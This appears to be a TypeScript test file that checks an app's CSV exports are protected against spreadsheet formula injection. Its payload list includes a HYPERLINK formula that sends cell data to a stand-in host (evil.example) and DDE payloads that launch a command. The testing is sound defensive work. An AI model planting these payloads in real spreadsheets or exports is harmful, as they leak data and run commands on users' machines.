/**
 * Exports are inert: a cell a spreadsheet would run as a formula (= + - @, a leading tab or
 * carriage return) carries a leading apostrophe in every CSV the atlas writes, the numbers we write
 * are left alone, and our own CSV reads back as it was.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { actorsCsv, linksCsv, passagesCsv, type ExportLabels } from '../../src/core/export-data';
import { csvCell, parseCsv, writeCsv } from '../../src/core/import/csv';
import { issuesCsv, type RowIssue } from '../../src/core/import/links-table';
import { loadMessages, phrase, translate, translator } from '../../src/core/messages';
import type { Dataset } from '../../src/core/types';
import { validateDataset } from '../../src/core/validate';
import { seedJson, seedSourceTexts } from './helpers';

const TRIGGERS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

const LABELS: ExportLabels = {
  status: (status) => ({
    en: translate('en', `status.${status}`),
    ar: translate('ar', `status.${status}`),
  }),
};

/** Every raw cell of a CSV text that starts like a formula (the apostrophe absent). */
const live = (csv: string): string[] =>
  csv
    .split(/\r\n/)
    .flatMap((line) => line.split(','))
    .map((cell) => cell.replace(/^"/, ''))
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

function hostileSeed(): Dataset {
  const d = seedJson();
  const [algeria, spain] = d.actors;
  const [excerpt] = d.excerpts;
  const [source] = d.sources;
  const [link] = d.partnerships;
  if (!algeria || !spain || !excerpt || !source || !link) throw new Error('seed changed');
  algeria.name = { en: TRIGGERS[0] ?? '', ar: TRIGGERS[1] ?? '' };
  spain.anchor.place = { en: TRIGGERS[2] ?? '', ar: TRIGGERS[3] ?? '' };
  excerpt.translation = TRIGGERS[4] ?? null;
  source.subject = TRIGGERS[5] ?? '';
  link.summary = { en: TRIGGERS[0] ?? '', ar: TRIGGERS[3] ?? '' };
  const result = validateDataset(d, {
    file: 'x.json',
    curated: false,
    sourceTexts: seedSourceTexts(),
  });
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  return result.dataset;
}

describe('CSV exports are inert', () => {
  beforeAll(() => loadMessages('ar'));

  it('puts an apostrophe before each trigger, leaves our numbers alone, and reads back as it was', () => {
    for (const trigger of TRIGGERS) {
      const cell = csvCell(trigger);
      expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
    }
    expect(csvCell(-3.7)).toBe('-3.7');
    expect(csvCell('plain')).toBe('plain');
    const rows = [['value', 'n'], ...TRIGGERS.map((t) => [t, -1])];
    const read = parseCsv(writeCsv(rows)).table;
    // A carriage return inside quotes reads as a line feed, as every line break there does.
    expect(read.rows.map((r) => r.cells[0])).toEqual(TRIGGERS.map((t) => t.replace('\r', '\n')));
    expect(read.rows.map((r) => r.cells[1])).toEqual(TRIGGERS.map(() => '-1'));
  });

  it('in the partnerships, passages and actors files', () => {
    const dataset = hostileSeed();
    for (const csv of [linksCsv(dataset, LABELS), passagesCsv(dataset), actorsCsv(dataset, true)])
      expect(live(csv)).toEqual([]);
    // Coordinates are numbers we write: a western longitude keeps its minus sign.
    expect(actorsCsv(dataset, true)).toMatch(/,-3\.\d+,/);
  });

  it('in the import report, which quotes the raw cells', () => {
    const issues: RowIssue[] = TRIGGERS.map((value, i) => ({
      line: i + 2,
      column: 'origin',
      value,
      message: phrase('import.statusUnknown', { values: value }),
    }));
    for (const language of ['en', 'ar'] as const)
      expect(live(issuesCsv(issues, 'line', translator(language)))).toEqual([]);
  });
});
